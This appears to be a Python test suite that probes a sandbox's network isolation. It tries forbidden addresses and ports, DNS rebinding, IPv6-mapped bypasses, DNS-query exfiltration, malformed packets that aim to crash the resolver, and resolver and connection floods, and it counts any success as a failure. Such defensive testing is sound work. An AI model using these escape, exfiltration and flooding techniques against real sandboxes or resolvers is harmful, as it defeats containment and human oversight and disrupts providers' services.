"""The way to the internet of an activity that has been given one: beyond the places, and more than is good.

The names in the context are permitted, by a manifest that a careless owner has let pass. Whoever must not be
reached says so to each that connects.
"""

from __future__ import annotations

import contextlib
import socket
import struct
import time

from attempting import CONTEXT, all_held, attempt

RESOLVER = ("198.18.0.1", 53)
FORBIDDEN = b"forbidden"
WAIT_S, LONG_WAIT_S = 4, 9
HELD = 300
FLOOD_S = 0.5
MOST_ANSWERS = 2000
ADDRESS_TYPE, NAME_SERVER_TYPE, TEXT_TYPE, IPV6_TYPE, ANY_TYPE = 1, 2, 16, 28, 255


def heard(place: tuple, family: int = socket.AF_INET) -> str | None:
    """What came through if somebody is there who must not be."""
    with socket.socket(family, socket.SOCK_STREAM) as talk:
        talk.settimeout(WAIT_S)
        talk.connect(place)
        said = talk.recv(100)
    return f"{place[0]}:{place[1]} was reached" if said.startswith(FORBIDDEN) else None


@attempt
def connect_to_addresses_of_the_provider() -> str | None:
    port, addresses = CONTEXT["forbidden_port"], CONTEXT["forbidden_addresses"]
    return all_held(*(lambda to=to: heard((to, port)) for to in addresses))


@attempt
def connect_to_other_ports_of_what_is_permitted() -> str | None:
    name, port = CONTEXT["fair"], CONTEXT["forbidden_port"]
    return all_held(*(lambda to=to: heard((name, to)) for to in (22, 81, 443, port)))


@attempt
def connect_to_addresses_without_a_name() -> str | None:
    """All of the range are the activity's own; nobody may listen at those that mean nobody."""
    ports = (53, 80, CONTEXT["forbidden_port"])
    addresses = ("198.18.0.200", "198.18.200.9", "198.19.0.9", "198.19.255.255")
    places = [(address, port) for address in addresses for port in ports]

    def connected(place: tuple[str, int]) -> str:
        socket.create_connection(place, 1).close()
        return f"{place} was reached"

    return all_held(*(lambda to=to: connected(to) for to in places))


@attempt
def connect_to_names_that_lead_to_the_provider() -> str | None:
    return all_held(*(lambda name=name: heard((name, 80)) for name in CONTEXT["lying_names"]))


@attempt
def rebind_a_name() -> str | None:
    """It leads to the internet the first time, and to the provider the next."""
    return all_held(*(lambda: heard((CONTEXT["rebinding"], 80)) for _ in range(6)))


@attempt
def connect_by_the_other_protocol() -> str | None:
    port = CONTEXT["forbidden_port"]
    addresses = ["::1", *CONTEXT["forbidden_addresses_6"]]
    addresses += [f"::ffff:{each}" for each in CONTEXT["forbidden_addresses"]]
    return all_held(*(lambda to=to: heard((to, port), socket.AF_INET6) for to in addresses))


@attempt
def send_datagrams_beyond_the_resolver() -> str | None:
    """To places that are permitted for connections, too."""

    def answered(place: tuple[str, int]) -> str:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as talk:
            talk.settimeout(0.5)
            talk.connect(place)
            talk.send(b"hello")
            talk.recv(100)
            return f"{place} has answered"

    port = CONTEXT["forbidden_port"]
    return all_held(
        *(lambda to=to: answered((to, port)) for to in CONTEXT["forbidden_addresses"]),
        lambda: answered((CONTEXT["fair"], 80)),
    )


def question(name: bytes, kind: int) -> bytes:
    labels = b"".join(bytes([len(label)]) + label for label in name.split(b"."))
    return struct.pack("!HHHHHH", 7, 256, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)


def asked(message: bytes) -> bytes:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as talk:
        talk.settimeout(1)
        talk.sendto(message, RESOLVER)
        return talk.recv(4096)


@attempt
def carry_words_out_by_questions_for_names() -> str | None:
    """A name that is not permitted must not be looked up; the world outside notes who asks for what."""
    fair = CONTEXT["fair"].encode()
    for name in (b"secret." + CONTEXT["exfiltrating"].encode(), b"secret." + fair, b"secret"):
        for kind in (ADDRESS_TYPE, NAME_SERVER_TYPE, TEXT_TYPE, IPV6_TYPE, ANY_TYPE):
            answer = asked(question(name, kind))
            if answer[3] & 15 == 0 or answer[6:8] != b"\0\0":
                return f"there is an answer for {name.decode()}"
    return None


@attempt
def confuse_the_resolver() -> str | None:
    """It must not end of it, nor say more than was asked."""
    loop, whole = struct.pack("!HHHHHH", 7, 256, 1, 0, 0, 0) + b"\xc0\x0c\0\1\0\1", question(b"a.b", 1)
    odd = [b"", b"\0", loop, whole[:-3], bytes(600), bytes(60000), b"\xff" * 512, whole + bytes(400)]
    odd += [whole[:4] + b"\xff\xff" + whole[6:], b"\0\7\x80\0" + whole[4:], whole[:12] + b"\x3f" * 500]
    for message in odd:
        with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as talk:
            talk.sendto(message, RESOLVER)
    if asked(question(CONTEXT["fair"].encode(), ADDRESS_TYPE))[6:8] != b"\0\1":
        return "the resolver answers no more"
    return None


@attempt
def flood_the_resolver() -> str | None:
    """The sender pays for questions, but the provider for answers."""
    message, count, until = question(CONTEXT["fair"].encode(), ADDRESS_TYPE), 0, time.monotonic() + FLOOD_S
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as talk:
        talk.setblocking(False)
        while time.monotonic() < until:
            with contextlib.suppress(BlockingIOError):
                talk.sendto(message, RESOLVER)
            with contextlib.suppress(BlockingIOError):
                count += bool(talk.recv(512))
    return f"{count} answers in {FLOOD_S} s" if count > MOST_ANSWERS * FLOOD_S else None


@attempt
def read_nothing_of_much() -> str | None:
    """Those who send without an end must not fill the provider's memory, which is looked at afterwards."""
    talks = [socket.create_connection((CONTEXT["endless"], 80), WAIT_S) for _ in range(8)]
    time.sleep(0.5)
    for talk in talks:
        talk.close()
    return None


@attempt
def hold_connections_without_end() -> str | None:
    """The world outside counts them; when they are let go, there have to be others."""
    talks = []
    for _ in range(HELD):
        talk = socket.socket()
        talk.setblocking(False)
        talk.connect_ex((CONTEXT["silent_address"], 80))
        talks.append(talk)
    time.sleep(2)
    for talk in talks:
        talk.close()
    return None


@attempt
def flood_the_permitted_host() -> str | None:
    """With connections that begin and end; the world outside counts them."""
    until = time.monotonic() + FLOOD_S
    while time.monotonic() < until:
        with contextlib.suppress(OSError):
            socket.create_connection((CONTEXT["silent_address"], 80), 0.1).close()
    return None


@attempt
def lose_the_way_out() -> str | None:
    """Not a way through: after all this the fair host is there, or nothing above was tried in earnest."""
    with socket.create_connection((CONTEXT["fair"], 80), LONG_WAIT_S) as talk:
        said = talk.recv(100)
    return None if said == b"fair" else f"the fair host says {said!r}"
